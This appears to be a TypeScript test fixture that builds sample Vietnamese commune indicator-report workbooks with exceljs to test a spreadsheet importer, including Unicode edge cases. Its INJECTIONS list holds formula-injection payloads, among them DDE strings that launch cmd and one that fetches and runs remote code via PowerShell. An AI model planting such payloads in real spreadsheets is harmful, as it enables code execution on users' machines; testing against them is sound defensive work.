/**
 * Small hostile-but-valid workbooks built with exceljs at test time: an indicator report shaped like the real
 * commune reports (title rows, a "TT | Chỉ tiêu | Đơn vị tính | Mục tiêu | Kết quả" header), with hooks for the
 * odd things officials' files contain: merges, hidden parts, protection, dangerous or unusual text, dates.
 */
import ExcelJS from 'exceljs';

export type Value = string | number | Date | null;

export interface ReportSpec {
  readonly sheet?: string;
  /** The issuing body in A1; null leaves A1 empty (the commune then comes from the file name). */
  readonly issuer?: string | null;
  readonly title?: string;
  /** Data rows under the header: [code, name, unit, target, actual]. */
  readonly rows: readonly (readonly Value[])[];
  /** Called with the indicator sheet after the rows are written. */
  readonly tweak?: (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void | Promise<void>;
}

export const HEADER = ['TT', 'Chỉ tiêu', 'Đơn vị tính', 'Mục tiêu năm 2026', 'Kết quả tháng 4/2026'] as const;
/** The worksheet row of the header and of the first data row in every report built here. */
export const HEADER_ROW = 4;
export const FIRST_ROW = 5;

/** Ordinary rows any report might hold, for padding around the case under test. */
export const PLAIN_ROWS: readonly (readonly Value[])[] = [
  ['1', 'Tỷ lệ hồ sơ thủ tục hành chính được xử lý trực tuyến toàn trình', '%', '≥ 80%', '85%'],
  ['2', 'Tỷ lệ người dân có tài khoản định danh điện tử', '%', '≥ 90%', '72,5'],
  ['3', 'Số điểm truy cập Internet công cộng', 'Điểm', 5, 6],
];

export async function reportWorkbook(spec: ReportSpec): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(spec.sheet ?? 'Phụ lục');
  const issuer = spec.issuer === undefined ? 'UBND XÃ PHÚ THỊNH' : spec.issuer;
  if (issuer !== null) ws.getCell('A1').value = issuer;
  ws.getCell('A2').value = spec.title ?? 'BÁO CÁO KẾT QUẢ THỰC HIỆN CHỈ TIÊU NGHỊ QUYẾT 57 THÁNG 4 NĂM 2026';
  ws.getRow(HEADER_ROW).values = [...HEADER];
  spec.rows.forEach((r, i) => { ws.getRow(FIRST_ROW + i).values = r.map(v => v ?? undefined) as ExcelJS.CellValue[]; });
  await spec.tweak?.(ws, wb);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

/** A workbook with one sheet and nothing in it. */
export async function emptyWorkbook(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('Sheet1');
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

/** Formula-injection payloads as they arrive in commune cells: leading =, +, -, @, HYPERLINK and DDE. */
export const INJECTIONS: readonly string[] = [
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C powershell IEX(wget bit.ly/x)'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '＝1+1',
];

/** Text that breaks naive string handling. */
export const ODD_TEXTS: readonly string[] = [
  'Tỷ lệ xã có mạng 5G 📶🚀 phủ sóng',
  'Tỷ\u200b lệ\u200c người\u200d dân\ufeff dùng ví điện tử',
  '\u202eTỷ lệ hộ gia đình có cáp quang\u202c',
  '\u200fنسبة الأسر المتصلة بالإنترنت\u200f',
  'Tỷ lệ hồ sơ trực tuyến'.normalize('NFD'),
];
